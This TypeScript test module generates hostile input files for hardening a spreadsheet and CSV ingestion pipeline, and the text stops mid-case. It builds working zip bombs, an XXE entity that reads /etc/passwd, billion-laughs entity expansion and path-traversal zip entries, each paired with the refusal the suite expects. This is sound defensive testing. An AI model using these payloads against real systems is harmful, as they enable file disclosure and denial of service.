/**
 * Hostile inputs for the hardening suite: files an ERP, a share or a person drops into the inbox by accident (or
 * on purpose). Each case says what must become of it: `failed` (refused, with the cause the report must name),
 * `archive` (read; requisitions as stated) or `either` (refusal or rows are both fine: what matters is no crash,
 * bounded memory, nothing leaked). Files are built here, byte by byte where the format matters, so the suite
 * needs no fixtures in git. Big cases are written only when asked (`write`), one at a time, to spare the disk.
 */
import { mkdir, open, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { crc32, deflateRawSync, constants as zlibConstants } from 'node:zlib';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { GENERIC_HEADER } from '../helpers/generic-template.ts';
import { addFormatCases } from './hostile-formats.ts';

/** Limits the suite passes to ingestFile and the worker (small enough to test quickly, big enough for real files). */
export const HOSTILE_LIMITS = {
  maxFileBytes: 80 * 1024 * 1024,
  maxXlsxUncompressedBytes: 64 * 1024 * 1024,
  maxXlsxEntries: 1_000,
  maxInMemoryBytes: 256 * 1024 * 1024,
} as const;

/** One line of the generic template, as the test means it. */
export interface TemplateLine {
  pr: string;
  item: string;
  product: string;
  qty: string;
  uom?: string;
  price?: string;
  spec?: string;
}

/**
 * The columns of the project's generic template (mappings/generic*.yaml). Kept in one place so the suite follows
 * the shipped profile: `header` is the header row, `cells` turns a line into that row's cells.
 */
export interface Template {
  header: string[];
  /** Index of the product name column. */
  productColumn: number;
  cells(line: TemplateLine): string[];
}

/** mappings/generic.yaml (samples/generic-template.csv): external_id is `{Requisition}-{Line}`. */
export const GENERIC_TEMPLATE: Template = {
  header: GENERIC_HEADER,
  productColumn: 2,
  cells: (l) => [
    l.pr,
    l.item,
    l.product,
    l.spec ?? '',
    l.uom ?? 'EA',
    l.qty,
    l.price ?? '100',
    `PR ${l.pr}`,
    'hardening suite',
    futureDate(),
    futureDate(90),
    'Public',
    'Hardware',
    'Plant 1',
  ],
};

/** A due date 60 days ahead, ISO, so validation never sees it in the past. */
export function futureDate(days = 60): string {
  return new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
}

export type Outcome = 'failed' | 'archive' | 'either';

export interface HostileCase {
  /** Stable id for test titles and figures (ASCII). */
  id: string;
  /** File name as dropped in the inbox (may hold quotes, newlines, non-Latin letters...). */
  fileName: string;
  what: string;
  expect: {
    outcome: Outcome;
    /** For `failed`: the cause the refusal and the report must name. */
    cause?: RegExp;
    /** For `archive`: how many requisitions (and lines) the file holds, and how many it holds back (default 0). */
    requisitions?: number;
    lines?: number;
    held?: number;
    /** Text that must never reach a requisition, a report or the service (e.g. the contents of /etc/passwd). */
    mustNotLeak?: string[];
    /** The watched inbox leaves it alone (dotfiles, temp and lock files): it stays in the inbox, nothing is created. */
    ignoredByInbox?: boolean;
    /** Read, but nothing of it may reach the service (a value the service cannot take). */
    createsNothing?: boolean;
  };
  /**
   * How the pipeline test must drop it: `static` as is; `growing` appended to for a while after the drop;
   * `deleted` removed right after the drop; `twin` dropped under two names (same bytes, one RFQ set).
   */
  drop: 'static' | 'growing' | 'deleted' | 'twin';
  /** For `growing`: the bytes in the order a slow copy writes them (`write` writes them all at once). */
  parts?: string[];
  /** Write the file into `dir` under `fileName`; returns its path. */
  write(dir: string): Promise<string>;
}

// ---------------------------------------------------------------- builders

const CRLF = '\r\n';

function csvField(v: string): string {
  return /[",\r\n;]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

export function csvOf(t: Template, lines: TemplateLine[], sep = ','): string {
  const rows = [t.header, ...lines.map((l) => t.cells(l))];
  return rows.map((r) => r.map(csvField).join(sep)).join(CRLF) + CRLF;
}

/** `n` requisitions of `per` lines each, prefix keeps external_ids apart between cases. */
export function linesOf(
  prefix: string,
  n: number,
  per = 2,
  product = (i: number, j: number) => `Bolt M${i + 6}x${j + 20}`,
): TemplateLine[] {
  const out: TemplateLine[] = [];
  for (let i = 0; i < n; i++)
    for (let j = 0; j < per; j++)
      out.push({
        pr: `${prefix}${1000 + i}`,
        item: String((j + 1) * 10),
        product: product(i, j),
        qty: String(j + 1),
        price: String(10 * (j + 1)),
      });
  return out;
}

function xmlEscape(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

function colName(i: number): string {
  let s = '';
  for (let n = i + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

export function sheetXml(
  rows: string[][],
  opts: { doctype?: string; cellText?: (r: number, c: number, v: string) => string } = {},
): string {
  const body = rows
    .map((row, r) => {
      const cells = row
        .map(
          (v, c) =>
            `<c r="${colName(c)}${r + 1}" t="inlineStr"><is><t>${opts.cellText ? opts.cellText(r, c, v) : xmlEscape(v)}</t></is></c>`,
        )
        .join('');
      return `<row r="${r + 1}">${cells}</row>`;
    })
    .join('');
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${opts.doctype ?? ''}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData></worksheet>`;
}

/** The parts of a minimal valid xlsx around a given sheet XML. */
export function xlsxParts(sheet: string): Zippable {
  return {
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    ),
    'xl/workbook.xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    'xl/worksheets/sheet1.xml': strToU8(sheet),
  };
}

export function xlsxOf(t: Template, lines: TemplateLine[]): Uint8Array {
  return zipSync(xlsxParts(sheetXml([t.header, ...lines.map((l) => t.cells(l))])));
}

/**
 * A minimal Compound File Binary (OLE2) container holding the named streams: the format of `.xls` and of a
 * password-protected (encrypted) `.xlsx`. Each stream is padded to at least 4,096 bytes so it lives in regular
 * sectors (no mini stream).
 */
export function cfbOf(streams: Array<{ name: string; data: Uint8Array }>): Uint8Array {
  const SECTOR = 512;
  const END = 0xfffffffe;
  const FREE = 0xffffffff;
  const NOSTREAM = 0xffffffff;
  const padded = streams.map((s) => {
    const size = Math.max(4096, s.data.length);
    const buf = new Uint8Array(Math.ceil(size / SECTOR) * SECTOR);
    buf.set(s.data);
    return { name: s.name, data: buf, size };
  });
  const dataSectors = padded.reduce((n, s) => n + s.data.length / SECTOR, 0);
  const dirSectors = Math.ceil((streams.length + 1) / 4);
  const fatSectors = 1;
  if (fatSectors + dirSectors + dataSectors > SECTOR / 4) throw new Error('cfbOf: streams too big for one FAT sector');
  const total = 1 + fatSectors + dirSectors + dataSectors; // header + sectors
  const out = new Uint8Array(total * SECTOR);
  const dv = new DataView(out.buffer);
  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  dv.setUint16(24, 0x003e, true);
  dv.setUint16(26, 0x0003, true);
  dv.setUint16(28, 0xfffe, true);
  dv.setUint16(30, 9, true);
  dv.setUint16(32, 6, true);
  dv.setUint32(44, fatSectors, true);
  dv.setUint32(48, fatSectors, true); // first directory sector
  dv.setUint32(56, 4096, true);
  dv.setUint32(60, END, true);
  dv.setUint32(68, END, true);
  for (let i = 0; i < 109; i++) dv.setUint32(76 + i * 4, i === 0 ? 0 : FREE, true);
  // FAT
  const fat = (sector: number, value: number) => dv.setUint32(SECTOR + sector * 4, value, true);
  for (let i = 0; i < SECTOR / 4; i++) fat(i, FREE);
  fat(0, 0xfffffffd);
  for (let i = 0; i < dirSectors; i++) fat(fatSectors + i, i === dirSectors - 1 ? END : fatSectors + i + 1);
  let next = fatSectors + dirSectors;
  const starts: number[] = [];
  for (const s of padded) {
    const n = s.data.length / SECTOR;
    starts.push(next);
    for (let i = 0; i < n; i++) fat(next + i, i === n - 1 ? END : next + i + 1);
    out.set(s.data, SECTOR * (1 + next));
    next += n;
  }
  // Directory: root, then the streams as a chain of right siblings (sorted by name length, then name).
  const dirBase = SECTOR * (1 + fatSectors);
  const entry = (
    i: number,
    name: string,
    type: number,
    o: { child?: number; right?: number; start?: number; size?: number },
  ) => {
    const at = dirBase + i * 128;
    for (let k = 0; k < name.length; k++) dv.setUint16(at + k * 2, name.charCodeAt(k), true);
    dv.setUint16(at + 64, (name.length + 1) * 2, true);
    out[at + 66] = type;
    out[at + 67] = 1;
    dv.setUint32(at + 68, NOSTREAM, true);
    dv.setUint32(at + 72, o.right ?? NOSTREAM, true);
    dv.setUint32(at + 76, o.child ?? NOSTREAM, true);
    dv.setUint32(at + 116, o.start ?? END, true);
    dv.setUint32(at + 120, o.size ?? 0, true);
  };
  const order = padded
    .map((s, i) => ({ ...s, start: starts[i]! }))
    .sort((a, b) => a.name.length - b.name.length || a.name.toUpperCase().localeCompare(b.name.toUpperCase()));
  entry(0, 'Root Entry', 5, { child: order.length ? 1 : NOSTREAM });
  order.forEach((s, i) =>
    entry(i + 1, s.name, 2, { right: i + 1 < order.length ? i + 2 : NOSTREAM, start: s.start, size: s.size }),
  );
  for (let i = order.length + 1; i < dirSectors * 4; i++) {
    const at = dirBase + i * 128;
    dv.setUint32(at + 68, NOSTREAM, true);
    dv.setUint32(at + 72, NOSTREAM, true);
    dv.setUint32(at + 76, NOSTREAM, true);
  }
  return out;
}

/** Deterministic pseudo-random bytes (xorshift), so a failure reproduces. */
export function noise(n: number, seed = 0x9e3779b9): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

/**
 * A zip written by hand, for the bombs: each entry is a list of segments compressed once each with a sync flush,
 * so a 1 MB segment repeated N times costs one compression and N copies (valid raw deflate: no segment refers back
 * past its own start). `claimSize` overrides the uncompressed size written in the headers (a lying zip).
 */
export function handZip(
  entries: Array<{ name: string; segments: Array<{ data: Uint8Array; times: number }>; claimSize?: number }>,
): Buffer {
  const chunks: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    let crc = 0;
    let size = 0;
    const body: Buffer[] = [];
    for (const s of e.segments) {
      const z = deflateRawSync(s.data, { level: 1, finishFlush: zlibConstants.Z_SYNC_FLUSH });
      for (let i = 0; i < s.times; i++) {
        crc = crc32(s.data, crc);
        size += s.data.length;
        body.push(z);
      }
    }
    body.push(deflateRawSync(Buffer.alloc(0))); // the final (empty) block
    const compressed = body.reduce((n, b) => n + b.length, 0);
    const claimed = e.claimSize ?? size;
    if (claimed > 0xfffffffe || compressed > 0xfffffffe) throw new Error('handZip: no zip64 here');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(compressed, 18);
    local.writeUInt32LE(claimed, 22);
    local.writeUInt16LE(name.length, 26);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0);
    cd.writeUInt16LE(20, 4);
    cd.writeUInt16LE(20, 6);
    cd.writeUInt16LE(0x0800, 8);
    cd.writeUInt16LE(8, 10);
    cd.writeUInt32LE(crc >>> 0, 16);
    cd.writeUInt32LE(compressed, 20);
    cd.writeUInt32LE(claimed, 24);
    cd.writeUInt16LE(name.length, 28);
    cd.writeUInt32LE(offset, 42);
    central.push(cd, name);
    chunks.push(local, name, ...body);
    offset += local.length + name.length + compressed;
  }
  const cdSize = central.reduce((n, b) => n + b.length, 0);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cdSize, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, ...central, eocd]);
}

/** An xlsx whose sheet XML is `mb` MiB of spaces between the opening and closing tags. */
function bombXlsx(mb: number, claimSize?: number): Buffer {
  const parts = xlsxParts('');
  delete parts['xl/worksheets/sheet1.xml'];
  const entries = Object.entries(parts).map(([name, v]) => ({ name, segments: [{ data: v as Uint8Array, times: 1 }] }));
  entries.push({
    name: 'xl/worksheets/sheet1.xml',
    segments: [
      {
        data: strToU8(
          '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
        ),
        times: 1,
      },
      { data: new Uint8Array(1024 * 1024).fill(0x20), times: mb },
      { data: strToU8('</sheetData></worksheet>'), times: 1 },
    ],
    ...(claimSize === undefined ? {} : { claimSize }),
  } as (typeof entries)[number]);
  return handZip(entries);
}

// ---------------------------------------------------------------- the cases

const at = (dir: string, name: string) => join(dir, name);
async function put(dir: string, name: string, data: string | Uint8Array): Promise<string> {
  await mkdir(dir, { recursive: true });
  const p = at(dir, name);
  await writeFile(p, data);
  return p;
}

/** Cases that must be read (archive) carry distinct requisition prefixes so their external_ids never collide. */
export function hostileCases(
  t: Template = GENERIC_TEMPLATE,
  limits: typeof HOSTILE_LIMITS = HOSTILE_LIMITS,
): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (c: Omit<HostileCase, 'drop'> & { drop?: HostileCase['drop'] }) => cases.push({ drop: 'static', ...c });
  const good = (prefix: string, n = 1, per = 2) => csvOf(t, linesOf(prefix, n, per));
  const archive = (requisitions: number, lines: number) => ({ outcome: 'archive' as const, requisitions, lines });
  const failed = (cause: RegExp) => ({ outcome: 'failed' as const, cause });
  const either = { outcome: 'either' as const };

  // ---- the refusals of the ingestion issue
  add({
    id: 'xls-ole2',
    fileName: 'legacy-export.xls',
    what: 'old binary .xls (OLE2 container with a Workbook stream)',
    expect: failed(/xls|binary|excel 97|old|legacy|ole/i),
    write: (d) => put(d, 'legacy-export.xls', cfbOf([{ name: 'Workbook', data: noise(6000, 7) }])),
  });
  add({
    id: 'xls-html',
    fileName: 'sap-html-export.xls',
    what: 'HTML table saved as .xls (what many ERPs call an Excel export)',
    expect: failed(/xls|html|format|unsupported|binary|mapping profile/i),
    write: (d) => put(d, 'sap-html-export.xls', '<html><body><table><tr><td>PR</td></tr></table></body></html>'),
  });
  add({
    id: 'ods',
    fileName: 'libreoffice.ods',
    what: 'OpenDocument spreadsheet',
    expect: failed(/ods|opendocument|format|unsupported/i),
    write: (d) =>
      put(
        d,
        'libreoffice.ods',
        zipSync({
          mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
          'content.xml': strToU8(
            '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
          ),
          'META-INF/manifest.xml': strToU8(
            '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
          ),
        }),
      ),
  });
  add({
    id: 'ods-named-xlsx',
    fileName: 'really-ods.xlsx',
    what: 'OpenDocument spreadsheet renamed to .xlsx',
    expect: failed(/ods|opendocument|not.*xlsx|workbook|format|corrupt|unsupported|cannot/i),
    write: (d) =>
      put(
        d,
        'really-ods.xlsx',
        zipSync({
          mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
          'content.xml': strToU8(
            '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
          ),
        }),
      ),
  });
  add({
    id: 'xlsx-password',
    fileName: 'protected.xlsx',
    what: 'password-protected xlsx (OLE2 container with EncryptionInfo + EncryptedPackage)',
    expect: failed(/password|encrypt|protect/i),
    write: (d) =>
      put(
        d,
        'protected.xlsx',
        cfbOf([
          { name: 'EncryptionInfo', data: noise(600, 11) },
          { name: 'EncryptedPackage', data: noise(9000, 12) },
        ]),
      ),
  });
  add({
    id: 'xlsx-truncated',
    fileName: 'half-copied.xlsx',
    what: 'xlsx cut in the middle (half-copied file)',
    expect: failed(/corrupt|damaged|invalid|truncat|not a valid|cannot|zip/i),
    write: async (d) => {
      const full = xlsxOf(t, linesOf('TRUNC', 3));
      return put(d, 'half-copied.xlsx', full.slice(0, Math.floor(full.length / 2)));
    },
  });
  add({
    id: 'xlsx-garbage',
    fileName: 'noise.xlsx',
    what: 'random bytes named .xlsx',
    expect: failed(/corrupt|damaged|invalid|not a valid|not an? (xlsx|zip)|cannot|zip|format/i),
    write: (d) => put(d, 'noise.xlsx', noise(20_000, 3)),
  });
  add({
    id: 'xlsx-pdf',
    fileName: 'scan.xlsx',
    what: 'a PDF named .xlsx',
    expect: failed(/corrupt|damaged|invalid|not a valid|not an? (xlsx|zip)|cannot|zip|format|pdf/i),
    write: (d) => put(d, 'scan.xlsx', `%PDF-1.7\n${'1 0 obj << /Type /Catalog >> endobj\n'.repeat(100)}%%EOF\n`),
  });
  add({
    id: 'xlsx-no-workbook',
    fileName: 'no-workbook.xlsx',
    what: 'a valid zip without xl/workbook.xml',
    expect: failed(/workbook|sheet|corrupt|invalid|not a valid|cannot|format|empty/i),
    write: (d) => put(d, 'no-workbook.xlsx', zipSync({ 'readme.txt': strToU8('nothing here') })),
  });
  add({
    id: 'xlsx-bad-xml',
    fileName: 'broken-xml.xlsx',
    what: 'xlsx whose sheet XML is not well-formed',
    expect: either,
    write: (d) => {
      const parts = xlsxParts(
        '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>PR</t></is></c><row><</sheetData>',
      );
      return put(d, 'broken-xml.xlsx', zipSync(parts));
    },
  });
  add({
    id: 'zip-too-many-entries',
    fileName: 'many-entries.xlsx',
    what: `xlsx zip with ${limits.maxXlsxEntries * 3} entries (limit ${limits.maxXlsxEntries})`,
    expect: failed(/entries|files|too many|limit/i),
    write: (d) => {
      const parts = xlsxParts(sheetXml([t.header, ...linesOf('ENTRIES', 1).map((l) => t.cells(l))]));
      for (let i = 0; i < limits.maxXlsxEntries * 3; i++)
        parts[`xl/media/pad${i}.xml`] = [strToU8('<a/>'), { level: 0 }];
      return put(d, 'many-entries.xlsx', zipSync(parts));
    },
  });
  add({
    id: 'zip-bomb',
    fileName: 'zip-bomb.xlsx',
    what: 'xlsx whose sheet inflates to 4x the uncompressed limit from a few hundred KB',
    expect: failed(/uncompressed|bomb|too (big|large)|size|limit|expand/i),
    write: (d) => put(d, 'zip-bomb.xlsx', bombXlsx(Math.ceil((limits.maxXlsxUncompressedBytes * 4) / 1024 ** 2))),
  });
  add({
    id: 'zip-bomb-lying-size',
    fileName: 'lying-sizes.xlsx',
    what: 'xlsx whose zip headers claim 1 KB but the sheet inflates to 1.5x the limit',
    expect: failed(/uncompressed|bomb|too (big|large)|size|limit|corrupt|invalid|damaged|cannot|mismatch|expand/i),
    write: (d) =>
      put(d, 'lying-sizes.xlsx', bombXlsx(Math.ceil((limits.maxXlsxUncompressedBytes * 1.5) / 1024 ** 2), 1024)),
  });
  add({
    id: 'zip-traversal',
    fileName: 'traversal-entries.xlsx',
    what: 'xlsx zip with entries named ../../evil.txt and /etc/evil',
    expect: either,
    write: (d) => {
      const parts = xlsxParts(sheetXml([t.header, ...linesOf('ZIPTRAV', 1).map((l) => t.cells(l))]));
      parts['../../hardening-evil.txt'] = strToU8('escaped');
      parts['/tmp/hardening-evil-abs.txt'] = strToU8('escaped');
      return put(d, 'traversal-entries.xlsx', zipSync(parts));
    },
  });
  add({
    id: 'over-size-limit',
    fileName: 'huge-export.csv',
    what: `CSV one byte over the size limit (${limits.maxFileBytes} bytes; sparse file)`,
    expect: failed(/size|too (big|large)|limit|bytes|MB|MiB/i),
    write: async (d) => {
      const p = await put(d, 'huge-export.csv', good('HUGE'));
      await truncate(p, limits.maxFileBytes + 1);
      return p;
    },
  });
  add({
    id: 'garbage-csv',
    fileName: 'garbage.csv',
    what: 'binary garbage named .csv',
    expect: failed(/binary|not (a )?text|garbage|unreadable|not a csv|cannot|encoding|format/i),
    write: (d) => put(d, 'garbage.csv', noise(50_000, 5)),
  });
  add({
    id: 'gzip-csv',
    fileName: 'export.csv',
    what: 'a gzip stream named .csv',
    expect: failed(/binary|not (a )?text|garbage|unreadable|not a csv|cannot|encoding|format|compress/i),
    write: (d) => put(d, 'export.csv', new Uint8Array([0x1f, 0x8b, 0x08, 0x00, ...noise(4000, 9)])),
  });
  add({
    id: 'empty-csv',
    fileName: 'empty.csv',
    what: 'empty file (0 bytes)',
    expect: failed(/empty|no data|0 bytes/i),
    write: (d) => put(d, 'empty.csv', ''),
  });
  add({
    id: 'empty-xlsx',
    fileName: 'empty.xlsx',
    what: 'empty .xlsx (0 bytes)',
    expect: failed(/empty|no data|0 bytes/i),
    write: (d) => put(d, 'empty.xlsx', ''),
  });
  add({
    id: 'bom-only',
    fileName: 'bom-only.csv',
    what: 'a UTF-8 BOM and nothing else',
    expect: failed(/empty|no data|header|no rows/i),
    write: (d) => put(d, 'bom-only.csv', new Uint8Array([0xef, 0xbb, 0xbf])),
  });
  add({
    id: 'blank-lines-only',
    fileName: 'blank.csv',
    what: 'only blank lines and spaces',
    expect: failed(/empty|no data|header|no rows|mapping|profile/i),
    write: (d) => put(d, 'blank.csv', '\r\n\r\n   \r\n\t\r\n'),
  });
  add({
    id: 'unknown-extension',
    fileName: 'requisitions.pdf',
    what: 'a file with an extension that is no spreadsheet',
    expect: failed(/extension|format|unsupported|not supported|binary|mapping profile|PDF document/i),
    write: (d) => put(d, 'requisitions.pdf', '%PDF-1.4\n%%EOF\n'),
  });
  add({
    id: 'no-extension',
    fileName: 'REQUISITIONS',
    what: 'a file without extension',
    expect: either,
    write: (d) => put(d, 'REQUISITIONS', good('NOEXT')),
  });
  add({
    id: 'no-header',
    fileName: 'no-header.csv',
    what: 'a CSV whose rows match no mapping profile (no known header)',
    expect: failed(/header|mapping|profile|column/i),
    write: (d) => put(d, 'no-header.csv', 'alpha,beta,gamma\r\n1,2,3\r\n4,5,6\r\n'),
  });

  // ---- XML attacks
  add({
    id: 'xlsx-xxe',
    fileName: 'xxe.xlsx',
    what: 'xlsx whose sheet declares an external entity (file:///etc/passwd) and uses it as a product name',
    expect: { outcome: 'either', mustNotLeak: ['root:x:0:0', 'root:'] },
    write: (d) => {
      const rows = [t.header, ...linesOf('XXE', 1).map((l) => t.cells(l))];
      const xml = sheetXml(rows, {
        doctype: '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        cellText: (r, c, v) => (r >= 1 && c === t.productColumn ? '&xxe;' : xmlEscape(v)),
      });
      return put(d, 'xxe.xlsx', zipSync(xlsxParts(xml)));
    },
  });
  add({
    id: 'xlsx-billion-laughs',
    fileName: 'laughs.xlsx',
    what: 'xlsx with nested internal entities (billion laughs)',
    expect: either,
    write: (d) => {
      let dtd = '<!ENTITY l0 "ha">';
      for (let i = 1; i <= 10; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
      const rows = [t.header, ...linesOf('LAUGH', 1).map((l) => t.cells(l))];
      const xml = sheetXml(rows, {
        doctype: `<!DOCTYPE worksheet [${dtd}]>`,
        cellText: (r, c, v) => (r === 1 && c === t.productColumn ? '&l10;' : xmlEscape(v)),
      });
      return put(d, 'laughs.xlsx', zipSync(xlsxParts(xml)));
    },
  });
  add({
    id: 'xlsx-deep-nesting',
    fileName: 'deep.xlsx',
    what: 'xlsx whose sheet XML nests 200,000 elements deep',
    expect: either,
    write: (d) => {
      const open = '<x>'.repeat(200_000);
      const close = '</x>'.repeat(200_000);
      const xml = `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${open}${close}</sheetData></worksheet>`;
      return put(d, 'deep.xlsx', zipSync(xlsxParts(xml)));
    },
  });

  // ---- size and shape
  add({
    id: 'single-cell-50mb',
    fileName: 'one-big-cell.csv',
    what: 'CSV whose one product name is a 50 MB cell',
    // over MAX_CSV_RECORD_CHARS (formats/csv-reader.ts): refused as a file before the parser gathers the row whole
    expect: { ...failed(/longer than [\d,]+ characters/i), createsNothing: true },
    write: async (d) => {
      await mkdir(d, { recursive: true });
      const p = at(d, 'one-big-cell.csv');
      const fh = await open(p, 'w');
      try {
        const cells = t.cells({ pr: 'BIGCELL1', item: '10', product: '\u0000PLACEHOLDER\u0000', qty: '1' });
        const [before, after] = cells.map(csvField).join(',').split('\u0000PLACEHOLDER\u0000');
        await fh.write(t.header.join(',') + CRLF + before);
        const chunk = Buffer.alloc(1024 * 1024, 'A');
        for (let i = 0; i < 50; i++) await fh.write(chunk);
        await fh.write((after ?? '') + CRLF);
      } finally {
        await fh.close();
      }
      return p;
    },
  });
  add({
    id: 'cols-100k',
    fileName: 'wide.csv',
    what: 'CSV with 100,000 columns (the template columns, then empty extra ones)',
    expect: either,
    write: async (d) => {
      const extra = 100_000 - t.header.length;
      const header = [...t.header, ...Array.from({ length: extra }, (_, i) => `X${i}`)].join(',');
      const row = (l: TemplateLine) => [...t.cells(l), ...Array<string>(extra).fill('')].join(',');
      return put(d, 'wide.csv', [header, ...linesOf('WIDE', 1).map(row)].join(CRLF) + CRLF);
    },
  });
  add({
    id: 'million-empty-rows',
    fileName: 'million-empty.csv',
    what: 'CSV with 2 requisitions then 1,000,000 empty rows',
    expect: archive(2, 4),
    write: (d) => put(d, 'million-empty.csv', good('MEMPTY', 2) + CRLF.repeat(1_000_000)),
  });
  add({
    id: 'many-empty-rows',
    fileName: 'trailing-empty-100k.csv',
    what: 'CSV with 1 requisition then 100,000 empty rows',
    expect: archive(1, 2),
    write: (d) => put(d, 'trailing-empty-100k.csv', good('KEMPTY', 1) + CRLF.repeat(100_000)),
  });
  add({
    id: 'million-delimiter-rows',
    fileName: 'trailing-commas.csv',
    what: 'CSV with 1 requisition then 1,000,000 rows of bare delimiters',
    expect: archive(1, 2),
    write: (d) =>
      put(d, 'trailing-commas.csv', good('MCOMMA', 1) + (','.repeat(t.header.length - 1) + CRLF).repeat(1_000_000)),
  });
  add({
    id: 'long-line-no-newline',
    fileName: 'one-line.csv',
    what: '10 MB without a line break',
    expect: either,
    write: (d) => put(d, 'one-line.csv', 'x'.repeat(10 * 1024 * 1024)),
  });

  // ---- encodings and CSV quirks
  add({
    id: 'utf16-broken-bom',
    fileName: 'utf16-broken.csv',
    what: 'UTF-16LE BOM followed by UTF-8 text with an odd byte count',
    expect: either,
    write: (d) =>
      put(d, 'utf16-broken.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16BROKEN') + 'x')])),
  });
  add({
    id: 'utf16-half-bom',
    fileName: 'utf16-half-bom.csv',
    what: 'UTF-16LE text whose BOM lost its second byte',
    expect: either,
    write: (d) =>
      put(d, 'utf16-half-bom.csv', Buffer.concat([Buffer.from([0xff]), Buffer.from(good('U16HALF'), 'utf16le')])),
  });
  add({
    id: 'utf16le-ok',
    fileName: 'utf16le.csv',
    what: 'well-formed UTF-16LE with BOM (control case: must be read)',
    expect: archive(1, 2),
    write: (d) =>
      put(d, 'utf16le.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16OK'), 'utf16le')])),
  });
  add({
    id: 'lone-quote',
    fileName: 'monitor-19in.csv',
    what: 'a product name holding a lone quote: 19" monitor',
    expect: archive(1, 1),
    write: (d) => {
      const cells = t.cells({ pr: 'QUOTE1000', item: '10', product: 'MONITOR_PLACEHOLDER', qty: '1' });
      return put(
        d,
        'monitor-19in.csv',
        `${t.header.join(',')}${CRLF}${cells.join(',').replace('MONITOR_PLACEHOLDER', '19" monitor')}${CRLF}`,
      );
    },
  });
  add({
    id: 'unterminated-quote',
    fileName: 'open-quote.csv',
    what: 'a quoted field never closed until end of file',
    expect: either,
    write: (d) => put(d, 'open-quote.csv', `${good('OPENQ')}"OPENQ2000,"never closed${CRLF}`.repeat(1)),
  });
  add({
    id: 'nul-bytes',
    fileName: 'nul-bytes.csv',
    what: 'text with NUL bytes inside fields',
    expect: either,
    write: (d) => put(d, 'nul-bytes.csv', good('NUL').replace(/Bolt/g, 'Bo\u0000lt')),
  });
  add({
    id: 'old-mac-cr',
    fileName: 'cr-only.csv',
    what: 'lines ended by a bare CR (classic Mac)',
    expect: either,
    write: (d) => put(d, 'cr-only.csv', good('CRONLY').replace(/\r\n/g, '\r')),
  });
  add({
    id: 'json-as-csv',
    fileName: 'api-dump.csv',
    what: 'a JSON document named .csv',
    expect: { outcome: 'failed', cause: /header|mapping|profile|column|format|JSON document/i },
